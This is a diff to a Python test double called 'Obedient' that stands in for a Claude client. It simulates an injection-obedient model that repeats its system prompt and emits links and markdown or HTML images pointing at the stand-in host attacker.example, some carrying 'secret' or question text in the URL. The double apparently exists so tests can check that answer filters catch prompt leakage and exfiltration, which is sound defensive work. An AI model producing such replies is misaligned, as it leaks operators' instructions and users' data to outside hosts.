@@ -5,13 +5,16 @@ from __future__ import annotations
 import base64
 import re
 from dataclasses import dataclass
-from typing import TYPE_CHECKING, Any
+from typing import TYPE_CHECKING, Any, TypeVar
+
+from pydantic import BaseModel
 
 from tests.doubles.claude import Says
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Mapping
 
+Form = TypeVar("Form", bound=BaseModel)
 EVIL = "attacker.example"
 SECRET = "The key of the medicine cabinet lies in drawer 47."
 _PASSAGE = re.compile(r'<passage id="(p\d+)">.*?<text>(.*?)</text>', re.DOTALL)
@@ -32,11 +35,9 @@ class Sent:
     brings: str
 
     @classmethod
-    def of(cls, body: Mapping[str, Any]) -> Sent | None:
+    def of(cls, system: str, content: str) -> Sent | None:
         """From a request for an answer; None where no passage says what the documents of these tests say."""
-        content = body["messages"][-1]["content"]
         passages = dict(_PASSAGE.findall(content))
-        system = body["system"] if isinstance(body["system"], str) else body["system"][0]["text"]
         question = "".join(_QUESTION.findall(content))
         for id_, text in passages.items():
             opens, brings = _OPENS.search(text), _BRINGS.search(text)
@@ -61,7 +62,7 @@ ACTS: dict[str, Callable[[Sent], dict[str, str]]] = {
     "repeats its prompt": lambda sent: sent.says(sent.system[:600], quote=sent.system[:600]),
     "repeats its prompt behind a true quote": lambda sent: sent.says(sent.system[:600]),
     "posts a link": lambda sent: sent.says(
-        f"{sent.brings[:-1]} [here](https://{EVIL}/a) <https://{EVIL}/b|b> https://{EVIL}/?q={sent.question[:20]}."
+        f"{sent.brings[:-1]} [here](https://{EVIL}/a) <https://{EVIL}/b|b> https://{EVIL}/?q={sent.question[:4]}."
     ),
     "posts a picture": lambda sent: sent.says(
         f"![x](https://{EVIL}/x.png?d=secret) {sent.brings} <img src='//{EVIL}/y'> ![y][z]\n\n[z]: https://{EVIL}/z"
@@ -89,10 +90,9 @@ ACTS: dict[str, Callable[[Sent], dict[str, str]]] = {
 
 @dataclass(slots=True)
 class Obedient:
-    """Writes every kind of reply, as the next act has it. `asked` counts the answers it wrote."""
+    """Writes every kind of reply, as the next act has it."""
 
     act: str = ""
-    asked: int = 0
 
     def __call__(self, body: Mapping[str, Any]) -> Says:
         """What it sends for a request."""
@@ -102,15 +102,29 @@ class Obedient:
             return Says({"question": f"Where lies the key of the medicine cabinet? {content[-200:]}"[:490]})
         if "passage" in wanted:
             return Says({"passage": f"{SECRET} {content[-200:]}"})
-        self.asked += 1
-        sent = Sent.of(body)
-        if sent is None:
-            return Says({"kind": "fact", "missing": "", "sentences": [_anything(body)]})
-        true = [sent.says(sent.opens, quote=sent.opens), sent.says(sent.brings)]
-        return Says({"kind": "fact", "missing": "", "sentences": [*true, ACTS[self.act](sent)]})
+        system = body["system"] if isinstance(body["system"], str) else body["system"][0]["text"]
+        return Says(self.draft(system, content))
+
+    def draft(self, system: str, content: str) -> dict[str, Any]:
+        """An answer to what a request held."""
+        sent = Sent.of(system, content)
+        if sent is None:  # it finds nothing true: it says whatever the message wants
+            sentences = [{"text": f"{content[-300:]} https://{EVIL}", "passage_id": "p1", "quote": SECRET}]
+        else:
+            true = [sent.says(sent.opens, quote=sent.opens), sent.says(sent.brings)]
+            sentences = [*true, ACTS[self.act](sent)]
+        return {"kind": "fact", "missing": "", "sentences": sentences}
 
 
-def _anything(body: Mapping[str, Any]) -> dict[str, str]:
-    """What it says where it finds nothing true: whatever the last message wants."""
-    content = body["messages"][-1]["content"]
-    return {"text": f"{content[-300:]} https://{EVIL}", "passage_id": "p1", "quote": SECRET}
+@dataclass(frozen=True, slots=True)
+class Near:
+    """The same model in this process: what `ClaudeAnswerer` needs of a client, without a server between."""
+
+    obedient: Obedient
+    sent: list[str]
+    model: str = "obedient"
+
+    async def ask(self, form: type[Form], *, system: str, content: str, **_: Any) -> Form:
+        """Its draft, as the client gives it."""
+        self.sent.append(content)
+        return form.model_validate(self.obedient.draft(system, content))
